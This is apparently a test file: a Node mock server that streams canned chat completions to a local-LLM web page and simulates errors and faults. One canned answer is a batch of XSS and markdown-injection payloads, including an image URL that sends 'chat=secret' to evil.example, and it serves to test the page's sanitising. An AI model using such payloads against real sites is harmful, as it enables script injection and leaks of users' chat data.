/*
 * A server with the routes that the page uses, for tests. It runs no model: answers are canned, and words in the last
 * question choose what happens (see ANSWERS and `plan`). `node test/mock.mjs [PORT]` starts it.
 */
import { createServer } from "node:http";
import { readFileSync } from "node:fs";
import { gunzipSync } from "node:zlib";
import path from "node:path";
import { fileURLToPath } from "node:url";

const here = path.dirname(fileURLToPath(import.meta.url)), dist = path.join(here, "..", "dist");
const TYPES = { ".html": "text/html; charset=utf-8", ".js": "text/javascript; charset=utf-8", ".css": "text/css; charset=utf-8", ".svg": "image/svg+xml", "": "text/plain; charset=utf-8" };
export const CSP = "default-src 'self'; img-src 'self' data:; style-src 'self'; base-uri 'none'; frame-ancestors 'none'";

export const data = (name) => JSON.parse(gunzipSync(readFileSync(path.join(here, "data", `${name}.json.gz`))));

const MODELS = ["smollm2-135m", "qwen2.5-0.5b"];
const CARDS = {
  "smollm2-135m": { id: "smollm2-135m", name: "SmolLM2 135M Instruct", backend: "cpu", device: "Intel(R) Xeon(R) Processor", driver: "avx512-vnni", weights: "4-bit E0M4 in groups of 32, head 8-bit", context: 4096,
    memory: { weights: 98_346_752, cache: 94_371_840, arena: 1_393_664, device: 25_276_502_016 }, sampling: { temperature: .2, top_p: .9, top_k: null, min_p: null, repetition_penalty: null },
    notes: ["The model has no generation_config.json: sampling defaults are those of tlite."], version: "0.1.0" },
  "qwen2.5-0.5b": { id: "qwen2.5-0.5b", name: "Qwen2.5 0.5B Instruct", backend: "opencl", device: "Intel(R) Arc(TM) Graphics", driver: "25.22", weights: "4-bit E0M4 in groups of 128", context: 8192,
    memory: { weights: 356_000_000, cache: 100_663_296, arena: 9_400_000, device: 12_000_000_000 }, sampling: { temperature: .7, top_p: .8, top_k: 20, min_p: null, repetition_penalty: 1.1 }, notes: [], version: "0.1.0" },
};

const CODE = "```rust\nuse transformer_lite::Session;\n\nfn main() -> Result<(), transformer_lite::Error> {\n    let session = Session::open(\"model\")?;\n    // A comment, and a number: 42.\n    println!(\"{}\", session.device().name());\n    Ok(())\n}\n```";
const ANSWERS = [
  [/\bxss\b/i, "Here is markup.\n\n<script>window.hacked = 1</script>\n\n<img src=x onerror=\"window.hacked = 2\">\n\n[click me](javascript:window.hacked=3) and [data](data:text/html,<script>window.hacked=4</script>) and [fine](https://example.com/page).\n\n"
    + "![leak](https://evil.example/leak.png?chat=secret) ![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)\n\n<a href=\"https://evil.example/\" onclick=\"window.hacked = 5\" style=\"position:fixed\">styled</a> <iframe src=\"https://evil.example/frame\"></iframe> <svg onload=\"window.hacked = 6\"></svg>\n\n"
    + "<style>body { background: url(https://evil.example/bg.png) }</style>\n\n```\"><img src=x onerror=window.hacked=7>\ncode </code></pre><img src=x onerror=\"window.hacked = 8\">\n```\n\n| a |\n|---|\n| <img src=\"https://evil.example/cell.png\"> |\n\n<https://example.com/auto> <form action=\"https://evil.example/\"><input name=q></form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=9>"],
  [/\bcode\b/i, `This program opens a model and prints the name of its device:\n\n${CODE}\n\nRun it with \`cargo run --release\`.`],
  [/\btable\b/i, "| backend | device | tokens/s |\n|---|---|---:|\n| `cpu` | Xeon, two cores | 51.7 |\n| `opencl` | Arc | 143 |\n\n1. The first row needs no driver.\n2. The second row needs OpenCL.\n   - Any version from 1.2 on."],
  [/\bemoji\b/i, "A heart: \u2764\ufe0f and a fox: \u{1f98a}."],
  [/\bmemory\b/i, "The **KV cache** holds a key and a value for each token, layer and head. Its size grows with the context, not with the number of weights.\n\nFor this model:\n\n| part | size |\n|---|---:|\n| 30 layers \u00d7 2 \u00d7 192 values, 16 bits | 23 040 bytes per token |\n| context of 4096 tokens | 94.4 MB |\n\nThree things make it smaller:\n\n1. A shorter context: `tlite serve MODEL --context 2048`\n2. 8-bit values: `--kv q8` needs about half\n3. Fewer parallel sequences"],
  [/./s, "A roofline compares what a kernel does with what the device allows. Each operation needs **bytes** from memory and **arithmetic**. The ratio of the two decides which limit comes first.\n\n- Decoding reads every weight for one token, so memory is the limit.\n- Prefill uses each weight for many tokens, so arithmetic is the limit."],
];
const LONG = Array.from({ length: 40 }, (_, i) => `### Part ${i + 1}\n\nThis part explains one more step in a *few* plain words, with \`code\` and a [link](https://example.com/${i}).\n\n- a first point that is short\n- a second point that says a little more\n\n${i % 4 === 3 ? CODE + "\n\n" : ""}`).join("");

const random = (seed) => () => { seed = (seed * 1664525 + 1013904223) >>> 0; return seed / 2 ** 32; };
const WORDS = " the, a, of, and, to, in, is, that, for, it, as, with, on, this, which, each, one, its".split(",");
export const tokensOf = (text) => text.match(/\s*[\p{L}\p{N}]{1,7}|\s*[^\s\p{L}\p{N}]|\s+/gu) ?? [];
const bytesOf = (t) => [...Buffer.from(t)];

function logprob(token, i, next) {
  const sure = next(), p = sure < .6 ? .9 + .099 * next() : sure < .8 ? .5 + .4 * next() : .05 + .4 * next(), lead = /^[^\p{L}\p{N}]/u.test(token) ? "" : " ";
  const others = [];
  let left = 1 - p;
  for (const w of WORDS.filter((w) => w !== token)) { if (others.length === 9) break; const q = left * (.3 + .4 * next()); left -= q; others.push([lead ? w.trim() : w, Math.max(q, 1e-9)]); }
  const all = [[token, p], ...others].sort((a, b) => b[1] - a[1]);
  return { token, bytes: bytesOf(token), logprob: Math.log(p), top_logprobs: all.map(([t, q]) => ({ token: t, bytes: bytesOf(t), logprob: Math.log(q) })) };
}

/* A value that matches a simple schema. */
function instance(schema) {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return schema.enum[0];
  switch (schema.type) {
    case "object": return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([k, s]) => [k, instance(s)]));
    case "array": return [instance(schema.items ?? {}), instance(schema.items ?? {})];
    case "integer": return 1969;
    case "number": return 0.5;
    case "boolean": return true;
    default: return "Apollo 11";
  }
}

/* What an answer does: its text, the pause before it and the tokens per second. */
function plan(body) {
  const last = body.messages.at(-1), question = body.messages.filter((m) => m.role === "user").at(-1)?.content ?? "", has = (w) => new RegExp(`\\b${w}\\b`, "i").test(question);
  let text = ANSWERS.find(([r]) => r.test(question))[1], rate = 400, wait = 30;
  if (has("long")) { text = LONG; rate = 2000; }
  if (body.response_format?.type === "json_schema") text = JSON.stringify(instance(body.response_format.json_schema.schema));
  if (has("slow")) { rate = 8; wait = 400; }
  if (has("fast")) { rate = 200; text = LONG.repeat(4); }
  if (has("bench")) { rate = 120; }
  let tokens = tokensOf(text), start = 0;
  if (has("marathon")) { rate = 200; tokens = tokensOf(LONG.repeat(6)); }
  if (has("fast") || has("marathon")) tokens = tokens.slice(0, has("fast") ? 2000 : 10_000);
  if (body.continue_final_message && last.role === "assistant") {
    const whole = tokens.join("");
    tokens = whole.startsWith(last.content) ? tokensOf(whole.slice(last.content.length)) : tokensOf(" words follow another path from here, and the rest of the answer is new.");
    start = 7 * last.content.length;
  }
  const limit = body.max_tokens ?? Infinity;
  return { tokens: tokens.slice(0, limit), finish: tokens.length > limit ? "length" : "stop", rate, wait, seed: (body.seed ?? 1) + start + question.length, reasoning: has("think") ? tokensOf("The user asks a question. I recall what I know and answer it briefly.") : [],
    fault: ["break", "fail", "garbage"].find(has) ?? null, busy: has("busy"), bad: has("refuse") };
}

export async function start({ port = 0, key = null, report = true, card = true, rate = null } = {}) {
  const requests = [];
  let previous = 0;
  const server = createServer((req, res) => {
    const url = new URL(req.url, "http://localhost");
    const reply = (status, value, headers = {}) => { res.writeHead(status, { "content-type": "application/json", ...headers }); res.end(JSON.stringify(value)); };
    const error = (status, message, code = null, headers = {}) => reply(status, { error: { message, type: status < 500 ? "invalid_request_error" : "server_error", param: null, code } }, headers);
    let raw = "";
    req.on("data", (c) => { raw += c; });
    req.on("end", () => {
      const name = url.pathname === "/" ? "index.html" : url.pathname.slice(1);
      if (req.method === "GET" && /^[\w-]+(\.\w+)?$/.test(name)) {
        try {
          const content = readFileSync(path.join(dist, name));
          res.writeHead(200, { "content-type": TYPES[path.extname(name)] ?? "application/octet-stream", "content-security-policy": CSP, "x-content-type-options": "nosniff" });
          res.end(content);
          return;
        } catch { /* Not a file of the page. */ }
      }
      let body = null;
      try { body = raw ? JSON.parse(raw) : null; } catch { error(400, "The body is not JSON."); return; }
      requests.push({ method: req.method, path: url.pathname, body });
      if (key && req.headers.authorization !== `Bearer ${key}`) { error(401, "A key is needed: Authorization: Bearer KEY.", "invalid_api_key"); return; }
      const model = url.searchParams.get("model");
      switch (`${req.method} ${url.pathname}`) {
        case "GET /v1/models": reply(200, { object: "list", data: MODELS.map((id) => ({ id, object: "model", created: 1_790_000_000, owned_by: "transformer-lite", meta: { context: CARDS[id].context } })) }); break;
        case "GET /tlite/model": if (card && CARDS[model]) reply(200, CARDS[model]); else error(404, `There is no model ${model}.`, "model_not_found"); break;
        case "GET /tlite/report": if (report && model === MODELS[0]) reply(200, { ...data("inspect-llm"), roofline: data("roofline") }); else error(404, "No report is offered.", "not_found"); break;
        case "POST /tokenize": reply(200, { tokens: tokensOf(body.content).map((_, i) => i) }); break;
        case "POST /v1/chat/completions": chat(req, res, body, error); break;
        default: error(404, `There is no route ${url.pathname}.`, "not_found");
      }
    });
  });

  function chat(req, res, body, error) {
    const p = plan(body);
    if (!MODELS.includes(body.model)) { error(404, `There is no model ${body.model}.`, "model_not_found"); return; }
    if (p.busy) { error(503, "All slots are taken and the queue is full.", "queue_full", { "retry-after": "2" }); return; }
    if (p.bad) { error(400, "response_format: the schema needs more than 1 s to compile.", "schema_too_complex"); return; }
    res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-store" });
    res.socket?.setNoDelay(true);
    const id = `chatcmpl-${requests.length}`, base = { id, object: "chat.completion.chunk", created: 1_790_000_000, model: body.model };
    const event = (v) => res.write(`data: ${JSON.stringify({ ...base, ...v })}\n\n`);
    event({ choices: [{ index: 0, delta: { role: "assistant", content: "" }, finish_reason: null }] });
    if (rate) p.rate = rate;
    const next = random(p.seed), all = [...p.reasoning.map((t) => [t, true]), ...p.tokens.map((t) => [t, false])];
    let i = 0, timer = null;
    const began = Date.now() + p.wait;
    const end = () => {
      clearInterval(timer);
      event({ choices: [{ index: 0, delta: {}, finish_reason: p.finish }] });
      const prompt = body.messages.reduce((n, m) => n + 4 + tokensOf(m.content).length, 3), cached = Math.min(previous, prompt - 1);
      previous = prompt + p.tokens.length;
      event({ choices: [], usage: { prompt_tokens: prompt, completion_tokens: all.length, total_tokens: prompt + all.length, prompt_tokens_details: { cached_tokens: cached } } });
      res.end("data: [DONE]\n\n");
    };
    timer = setInterval(() => {
      const due = Math.floor((Date.now() - began) / 1000 * p.rate);
      while (i < all.length && i < due) {
        const [t, reasoning] = all[i];
        if (i === 12 && p.fault === "fail") { clearInterval(timer); res.write(`data: ${JSON.stringify({ error: { message: "The device was lost.", type: "server_error", code: "device_lost", param: null } })}\n\n`); res.end(); return; }
        if (i === 12 && p.fault === "break") { clearInterval(timer); res.socket.destroy(); return; }
        if (i === 12 && p.fault === "garbage") { clearInterval(timer); res.end("data: {not json\n\n"); return; }
        event({ choices: [{ index: 0, delta: reasoning ? { reasoning_content: t } : { content: t }, logprobs: body.logprobs ? { content: [logprob(t, i, next)] } : null, finish_reason: null }] });
        i++;
      }
      if (i >= all.length) end();
    }, 4);
    res.on("close", () => { clearInterval(timer); requests.push({ method: "CLOSE", path: url(req), sent: i, of: all.length }); });
  }
  const url = (req) => req.url;

  await new Promise((resolve) => server.listen(port, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${server.address().port}/`, requests, close: () => new Promise((resolve) => { server.closeAllConnections(); server.close(resolve); }) };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const server = await start({ port: Number(process.argv[2] ?? 8080) });
  console.log(`Page: ${server.url}`);
}
